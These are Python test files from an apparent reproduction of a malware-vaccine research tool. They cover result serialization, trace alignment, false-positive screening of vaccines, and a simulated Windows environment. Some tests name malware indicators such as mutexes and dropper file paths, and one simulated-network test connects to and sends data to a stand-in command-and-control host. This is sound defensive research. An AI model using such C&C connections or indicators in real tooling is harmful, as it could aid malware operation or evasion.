        assert len(decoded.exclusiveness) == len(zeus_analysis.exclusiveness)
        assert [(d.exclusive, d.reason) for d in decoded.exclusiveness] == [
            (d.exclusive, d.reason) for d in zeus_analysis.exclusiveness
        ]
        assert [
            (o.candidate.key, o.mechanism, o.immunization, o.mutation_hits)
            for o in decoded.impacts
        ] == [
            (o.candidate.key, o.mechanism, o.immunization, o.mutation_hits)
            for o in zeus_analysis.impacts
        ]
        assert decoded.determinism.keys() == zeus_analysis.determinism.keys()
        for key, det in decoded.determinism.items():
            assert det.kind is zeus_analysis.determinism[key].kind
            assert det.pattern == zeus_analysis.determinism[key].pattern

    def test_span_tree_and_timings_survive(self, zeus_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
        assert decoded.span is not None
        assert decoded.span.to_dict() == zeus_analysis.span.to_dict()
        assert decoded.timings == zeus_analysis.timings
        assert "phase1" in decoded.timings and "impact" in decoded.timings

    def test_filtered_sample_round_trips(self, filtered_analysis):
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(filtered_analysis)
        )
        assert decoded.filtered_reason == filtered_analysis.filtered_reason
        assert decoded.vaccines == []
        assert decoded.phase1 is not None
        # Skipped stage spans keep their marker, so timings stay empty of them.
        skipped = [
            c.name for c in decoded.span.children if c.attrs.get("skipped")
        ]
        assert "impact" in skipped and "determinism" in skipped

    def test_encoding_is_stable(self, zeus_analysis):
        text = serialize.analysis_to_json(zeus_analysis)
        again = serialize.analysis_to_json(serialize.analysis_from_json(text))
        assert again == text

    def test_policy_survives_exactly(self, zeus_analysis):
        assert zeus_analysis.policy is not None
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(zeus_analysis)
        )
        assert decoded.policy is not None
        assert decoded.policy.to_dict() == zeus_analysis.policy.to_dict()
        assert decoded.policy.boundary_seq == zeus_analysis.policy.boundary_seq
        assert [r.to_dict() for r in decoded.policy.deny] == [
            r.to_dict() for r in zeus_analysis.policy.deny
        ]

    def test_analysis_without_policy_round_trips(self, filtered_analysis):
        assert filtered_analysis.policy is None
        decoded = serialize.analysis_from_json(
            serialize.analysis_to_json(filtered_analysis)
        )
        assert decoded.policy is None


class TestVersioning:
    def test_version_is_embedded(self, zeus_analysis):
        data = serialize.analysis_to_dict(zeus_analysis)
        assert data["format_version"] == serialize.ANALYSIS_FORMAT_VERSION

    def test_unknown_version_rejected(self, zeus_analysis):
        data = serialize.analysis_to_dict(zeus_analysis)
        data["format_version"] = 999
        with pytest.raises(ValueError, match="format version"):
            serialize.analysis_from_dict(data)

    def test_missing_version_rejected(self):
        with pytest.raises(ValueError, match="format version"):
            serialize.analysis_from_dict({"program": {"name": "x"}})

    def test_payload_is_plain_json(self, zeus_analysis):
        text = serialize.analysis_to_json(zeus_analysis)
        assert isinstance(json.loads(text), dict)

    def test_v2_payload_still_loads(self, zeus_analysis):
        payload = serialize.analysis_to_dict(zeus_analysis)
        payload.pop("policy")
        payload["format_version"] = 2
        decoded = serialize.analysis_from_dict(payload)
        assert decoded.policy is None
        assert [v.to_dict() for v in decoded.vaccines] == [
            v.to_dict() for v in zeus_analysis.vaccines
        ]


class TestPolicyDeterminism:
    """Policies must come out identical whether the population ran
    sequentially or across worker processes (the codec carries them over
    the process boundary)."""

    def _policies(self, jobs):
        from repro.core.executor import PipelineConfig, analyze_population
        from repro.corpus import GeneratorConfig, generate_population

        programs = [
            s.program for s in generate_population(GeneratorConfig(size=4, seed=11))
        ]
        result = analyze_population(programs, config=PipelineConfig(), jobs=jobs)
        return [
            a.policy.to_dict() if a.policy is not None else None
            for a in result.analyses
        ]

    def test_parallel_matches_sequential(self):
        seq = self._policies(jobs=1)
        par = self._policies(jobs=2)
        assert len(seq) == 4
        assert par == seq
        assert any(p is not None for p in seq)
