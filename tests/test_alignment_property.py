"""Property tests over random trace pairs for the three aligners.

LCS-maximal alignments are not unique, so the aligners may attribute a
tied delta to different sides — but every aligner must produce a valid
*partition* (each event lands in the aligned set or exactly one difference
set) and all three must agree on ``is_identical``; the two LCS-maximal
ones (``align_lcs``, ``align_myers``) must also agree on the number of
aligned pairs.
"""

from __future__ import annotations

import random

import pytest

from repro.analysis import align_lcs, align_linear, align_myers
from repro.tracing import ApiCallEvent

ALIGNERS = {"lcs": align_lcs, "linear": align_linear, "myers": align_myers}

APIS = ["A", "B", "C", "D", "E"]


def _trace(keys):
    return [
        ApiCallEvent(event_id=i + 1, seq=i, api=api, caller_pc=pc, args=(), identifier=None)
        for i, (api, pc) in enumerate(keys)
    ]


def _random_pair(rng: random.Random):
    """A natural trace plus a mutated variant: random edits (drop, insert,
    substitute) over a shared backbone — the shape impact analysis sees."""
    n = rng.randrange(0, 30)
    natural_keys = [(rng.choice(APIS), rng.randrange(1, 6)) for _ in range(n)]
    mutated_keys = []
    for key in natural_keys:
        roll = rng.random()
        if roll < 0.15:
            continue  # event lost under mutation
        if roll < 0.25:
            mutated_keys.append((rng.choice(APIS), rng.randrange(6, 12)))  # substituted
            continue
        if roll < 0.35:
            mutated_keys.append((rng.choice(APIS), rng.randrange(6, 12)))  # inserted
        mutated_keys.append(key)
    return _trace(mutated_keys), _trace(natural_keys)


def _check_partition(result, mutated, natural):
    # Deltas must be actual events of their trace, in trace order, and the
    # counts must tile the traces exactly.
    assert len(result.delta_mutated) + result.aligned_pairs == len(mutated)
    assert len(result.delta_natural) + result.aligned_pairs == len(natural)
    mutated_ids = [id(e) for e in mutated]
    natural_ids = [id(e) for e in natural]
    delta_m = [mutated_ids.index(id(e)) for e in result.delta_mutated]
    delta_n = [natural_ids.index(id(e)) for e in result.delta_natural]
    assert delta_m == sorted(set(delta_m))
    assert delta_n == sorted(set(delta_n))


@pytest.mark.parametrize("seed", range(50))
def test_random_pairs_agree(seed):
    rng = random.Random(seed)
    mutated, natural = _random_pair(rng)
    results = {name: fn(mutated, natural) for name, fn in ALIGNERS.items()}
    for name, result in results.items():
        _check_partition(result, mutated, natural)
    identical = {name: r.is_identical for name, r in results.items()}
    assert len(set(identical.values())) == 1, identical
    # Both LCS-maximal aligners find the same (maximal) number of pairs.
    assert results["myers"].aligned_pairs == results["lcs"].aligned_pairs


@pytest.mark.parametrize("seed", range(20))
def test_identical_random_traces(seed):
    rng = random.Random(1000 + seed)
    keys = [(rng.choice(APIS), rng.randrange(1, 6)) for _ in range(rng.randrange(0, 40))]
    a, b = _trace(keys), _trace(keys)
    for name, fn in ALIGNERS.items():
        result = fn(a, b)
        assert result.is_identical, name
        assert result.aligned_pairs == len(keys)


@pytest.mark.parametrize("seed", range(20))
def test_myers_matches_lcs_on_adversarial_shapes(seed):
    """Short alphabets + heavy repetition maximize tied alignments — the
    regime where a buggy backtrack would over- or under-count pairs."""
    rng = random.Random(2000 + seed)
    a = _trace([(rng.choice("AB"), 1) for _ in range(rng.randrange(0, 18))])
    b = _trace([(rng.choice("AB"), 1) for _ in range(rng.randrange(0, 18))])
    lcs = align_lcs(a, b)
    myers = align_myers(a, b)
    _check_partition(myers, a, b)
    assert myers.aligned_pairs == lcs.aligned_pairs
    assert myers.is_identical == lcs.is_identical
