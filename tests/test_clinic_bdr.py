"""Clinic test (§IV-D / §VI-E false positives) and BDR metric tests."""

import pytest

from repro.core import (
    IdentifierKind,
    Immunization,
    Mechanism,
    Vaccine,
    clinic_test,
    measure_bdr,
)
from repro.corpus import benign_suite, build_family
from repro.winenv import ResourceType, SystemEnvironment


def vaccine(rtype, identifier, mechanism=Mechanism.SIMULATE_PRESENCE,
            kind=IdentifierKind.STATIC, pattern=None):
    return Vaccine(
        malware="t", resource_type=rtype, identifier=identifier,
        identifier_kind=kind, mechanism=mechanism, immunization=Immunization.FULL,
        pattern=pattern,
    )


class TestClinic:
    def test_clean_vaccines_pass(self, benign_programs):
        vaccines = [vaccine(ResourceType.MUTEX, "_AVIRA_2109"),
                    vaccine(ResourceType.FILE, "c:\\windows\\system32\\sdra64.exe")]
        report = clinic_test(vaccines, benign_programs)
        assert report.clean
        assert len(report.passed) == 2 and not report.rejected

    def test_colliding_mutex_vaccine_rejected(self, benign_programs):
        """A vaccine denying the browser's single-instance mutex must be
        caught by the clinic and discarded."""
        bad = vaccine(ResourceType.MUTEX, "BrowserSingletonMtx",
                      mechanism=Mechanism.ENFORCE_FAILURE)
        good = vaccine(ResourceType.MUTEX, "_AVIRA_2109")
        report = clinic_test([bad, good], benign_programs)
        assert not report.clean
        assert bad in report.rejected
        assert good in report.passed

    def test_colliding_file_vaccine_rejected(self, benign_programs):
        bad = vaccine(ResourceType.FILE, "c:\\windows\\system32\\avstate.dat",
                      mechanism=Mechanism.ENFORCE_FAILURE)
        report = clinic_test([bad], benign_programs)
        assert bad in report.rejected
        assert any(i.api == "CreateFileA" for i in report.incidents)

    def test_pattern_vaccine_attribution(self, benign_programs):
        bad = vaccine(ResourceType.MUTEX, "mplayer_lock",
                      mechanism=Mechanism.ENFORCE_FAILURE,
                      kind=IdentifierKind.PARTIAL_STATIC, pattern="^mplayer_.+$")
        report = clinic_test([bad], benign_programs)
        assert bad in report.rejected

    def test_programs_tested_count(self, benign_programs):
        report = clinic_test([], benign_programs)
        assert report.programs_tested == len(benign_programs)


class TestBdr:
    def test_full_immunization_high_bdr(self, family_programs):
        from repro.core import AutoVac

        program = family_programs["sality"]
        vaccines = AutoVac().analyze(program).vaccines
        full = [v for v in vaccines if v.is_full_immunization]
        result = measure_bdr(program, full)
        assert result.bdr > 0.5
        assert result.vaccinated_terminated

    def test_partial_immunization_positive_bdr(self, family_programs):
        from repro.core import AutoVac

        program = family_programs["zeus"]
        vaccines = [v for v in AutoVac().analyze(program).vaccines
                    if v.immunization.is_partial]
        result = measure_bdr(program, vaccines)
        assert 0.1 < result.bdr < 1.0

    def test_no_vaccines_zero_bdr(self, family_programs):
        result = measure_bdr(family_programs["zeus"], [])
        assert result.bdr == pytest.approx(0.0)

    def test_bdr_not_full_100_percent(self, family_programs):
        """Paper: full-immunization BDR < 100% because the pre-exit calls
        still execute."""
        from repro.core import AutoVac

        program = family_programs["poisonivy"]
        vaccines = [v for v in AutoVac().analyze(program).vaccines
                    if v.is_full_immunization]
        result = measure_bdr(program, vaccines)
        assert 0.0 < result.bdr < 1.0
        assert result.calls_vaccinated >= 1
