"""Tests for resource base classes, handles, mutexes, processes, services,
windows, libraries, network, ACLs, and the environment container."""

import pytest

from repro.winenv import (
    Access,
    Acl,
    HandleKind,
    HandleTable,
    IntegrityLevel,
    LibraryManager,
    MachineIdentity,
    MutexNamespace,
    Network,
    ProcessTable,
    ResourceFault,
    ServiceManager,
    ServiceState,
    SystemEnvironment,
    Win32Error,
    WindowManager,
    open_acl,
    vaccine_acl,
)

LOW = IntegrityLevel.LOW
MED = IntegrityLevel.MEDIUM
SYS = IntegrityLevel.SYSTEM


class TestAcl:
    def test_owner_level_grants_everything(self):
        acl = vaccine_acl()
        assert acl.allows(SYS, Access.DELETE)

    def test_vaccine_acl_read_only_below_owner(self):
        acl = vaccine_acl()
        assert acl.allows(LOW, Access.READ)
        assert not acl.allows(LOW, Access.WRITE)
        assert not acl.allows(MED, Access.DELETE)

    def test_open_acl_allows_all(self):
        acl = open_acl()
        for access in Access:
            assert acl.allows(LOW, access)

    def test_check_raises_access_denied(self):
        with pytest.raises(ResourceFault) as exc:
            vaccine_acl().check(LOW, Access.WRITE)
        assert exc.value.error is Win32Error.ACCESS_DENIED


class TestHandleTable:
    def test_values_start_above_boolean_encodings(self):
        table = HandleTable()
        handle = table.allocate(HandleKind.MUTEX, None)
        assert handle.value >= 0x100

    def test_values_unique(self):
        table = HandleTable()
        values = {table.allocate(HandleKind.FILE, None).value for _ in range(50)}
        assert len(values) == 50

    def test_close_removes(self):
        table = HandleTable()
        handle = table.allocate(HandleKind.FILE, None)
        assert table.close(handle.value)
        assert table.get(handle.value) is None
        assert not table.close(handle.value)


class TestMutexNamespace:
    def test_create_reports_already_existed(self):
        ns = MutexNamespace()
        _, existed1 = ns.create("m", MED)
        _, existed2 = ns.create("m", MED)
        assert (existed1, existed2) == (False, True)

    def test_open_missing_raises_0x02(self):
        ns = MutexNamespace()
        with pytest.raises(ResourceFault) as exc:
            ns.open("ghost")
        assert exc.value.error is Win32Error.FILE_NOT_FOUND

    def test_names_case_sensitive(self):
        ns = MutexNamespace()
        ns.create("Mutex", MED)
        with pytest.raises(ResourceFault):
            ns.open("mutex")

    def test_clone_independent(self):
        ns = MutexNamespace()
        ns.create("a", MED)
        clone = ns.clone()
        clone.create("b", MED)
        assert not ns.exists("b") and clone.exists("a")


class TestProcessTable:
    def test_standard_processes_present(self):
        table = ProcessTable()
        assert table.find_by_name("explorer.exe") is not None
        assert table.find_by_name("svchost.exe") is not None

    def test_spawn_assigns_unique_pids(self):
        table = ProcessTable()
        a, b = table.spawn("a.exe"), table.spawn("b.exe")
        assert a.pid != b.pid

    def test_open_dead_process_fails(self):
        table = ProcessTable()
        proc = table.spawn("x.exe")
        proc.terminate(1)
        with pytest.raises(ResourceFault):
            table.open(proc.pid)

    def test_was_injected_flag(self):
        from repro.winenv.processes import RemoteWrite

        table = ProcessTable()
        target = table.find_by_name("explorer.exe")
        assert not target.was_injected
        target.remote_writes.append(RemoteWrite(writer_pid=1, size=64))
        assert target.was_injected


class TestServiceManager:
    def test_create_and_start(self):
        scm = ServiceManager()
        scm.create("svc", "c:\\bin.exe", MED)
        svc = scm.start("svc", MED)
        assert svc.state is ServiceState.RUNNING

    def test_duplicate_create_raises(self):
        scm = ServiceManager()
        scm.create("svc", "c:\\x", MED)
        with pytest.raises(ResourceFault) as exc:
            scm.create("svc", "c:\\y", MED)
        assert exc.value.error is Win32Error.SERVICE_EXISTS

    def test_low_integrity_cannot_create(self):
        scm = ServiceManager()
        with pytest.raises(ResourceFault):
            scm.create("svc", "c:\\x", LOW)

    def test_kernel_driver_detection(self):
        scm = ServiceManager()
        svc = scm.create("drv", "c:\\windows\\system32\\drivers\\k.sys", MED)
        assert svc.is_kernel_driver
        assert not scm.create("app", "c:\\app.exe", MED).is_kernel_driver

    def test_start_running_raises(self):
        scm = ServiceManager()
        scm.create("s", "c:\\x", MED)
        scm.start("s", MED)
        with pytest.raises(ResourceFault) as exc:
            scm.start("s", MED)
        assert exc.value.error is Win32Error.SERVICE_ALREADY_RUNNING

    def test_missing_service(self):
        scm = ServiceManager()
        with pytest.raises(ResourceFault) as exc:
            scm.open("ghost")
        assert exc.value.error is Win32Error.SERVICE_DOES_NOT_EXIST


class TestWindowManager:
    def test_standard_shell_windows(self):
        wm = WindowManager()
        assert wm.exists("Shell_TrayWnd") and wm.exists("Progman")

    def test_find_missing_raises(self):
        wm = WindowManager()
        with pytest.raises(ResourceFault):
            wm.find("NopeWnd")

    def test_create_locked_class_denied_for_low(self):
        wm = WindowManager()
        wm.register("AdWnd", acl=vaccine_acl())
        with pytest.raises(ResourceFault):
            wm.create("AdWnd", LOW)


class TestLibraryManager:
    def test_standard_libraries_loadable(self):
        lm = LibraryManager()
        assert lm.load("uxtheme.dll", LOW).name == "uxtheme.dll"

    def test_names_case_insensitive(self):
        lm = LibraryManager()
        assert lm.load("UXTHEME.DLL", LOW).name == "uxtheme.dll"

    def test_blocked_library_fails_to_load(self):
        lm = LibraryManager()
        lm.block("uxtheme.dll")
        with pytest.raises(ResourceFault):
            lm.load("uxtheme.dll", LOW)

    def test_block_unknown_registers_then_blocks(self):
        lm = LibraryManager()
        lm.block("evil.dll")
        with pytest.raises(ResourceFault):
            lm.load("evil.dll", LOW)


class TestNetwork:
    def test_resolve_known_host(self):
        net = Network()
        assert net.resolve("cc.badguy-domain.biz") == "10.6.6.6"

    def test_resolve_unknown_fails(self):
        net = Network()
        with pytest.raises(ResourceFault):
            net.resolve("nowhere.example")

    def test_send_recv_accounting(self):
        net = Network()
        conn = net.connect(1, "cc.badguy-domain.biz", 80)
        net.send(1, conn.conn_id, b"hello")
        data = net.recv(1, conn.conn_id, 10)
        assert data.startswith(b"HTTP/1.1")
        assert net.bytes_sent_by(1) == 5

    def test_blackhole_blocks_connect(self):
        net = Network()
        net.blackhole = True
        with pytest.raises(ResourceFault):
            net.connect(1, "cc.badguy-domain.biz", 80)

    def test_connect_by_ip_allowed(self):
        net = Network()
        assert net.connect(1, "10.1.2.3", 443).port == 443

    def test_closed_connection_rejects_send(self):
        net = Network()
        conn = net.connect(1, "cc.badguy-domain.biz", 80)
        net.close(conn.conn_id)
        with pytest.raises(ResourceFault):
            net.send(1, conn.conn_id, b"x")


class TestSystemEnvironment:
    def test_tick_count_monotonic(self):
        env = SystemEnvironment()
        a, b = env.tick_count(), env.tick_count()
        assert b > a

    def test_same_seed_same_stream(self):
        a = SystemEnvironment(rng_seed=1)
        b = SystemEnvironment(rng_seed=1)
        assert [a.tick_count() for _ in range(5)] == [b.tick_count() for _ in range(5)]

    def test_different_seed_different_stream(self):
        a = SystemEnvironment(rng_seed=1)
        b = SystemEnvironment(rng_seed=2)
        assert [a.tick_count() for _ in range(5)] != [b.tick_count() for _ in range(5)]

    def test_clone_resets_rng(self):
        env = SystemEnvironment(rng_seed=9)
        first = env.tick_count()
        clone = env.clone()
        assert clone.tick_count() == SystemEnvironment(rng_seed=9).tick_count() == first

    def test_clone_deep_copies_namespaces(self):
        env = SystemEnvironment()
        clone = env.clone()
        clone.mutexes.create("only-clone", MED)
        assert not env.mutexes.exists("only-clone")

    def test_identity_propagates(self):
        env = SystemEnvironment(identity=MachineIdentity(computer_name="BOX-9"))
        assert env.identity.computer_name == "BOX-9"

    def test_spawn_process_default_low_integrity(self):
        env = SystemEnvironment()
        assert env.spawn_process("m.exe").integrity is LOW

    def test_temp_file_name_under_temp(self):
        env = SystemEnvironment()
        assert env.temp_file_name().startswith("c:\\windows\\temp\\")
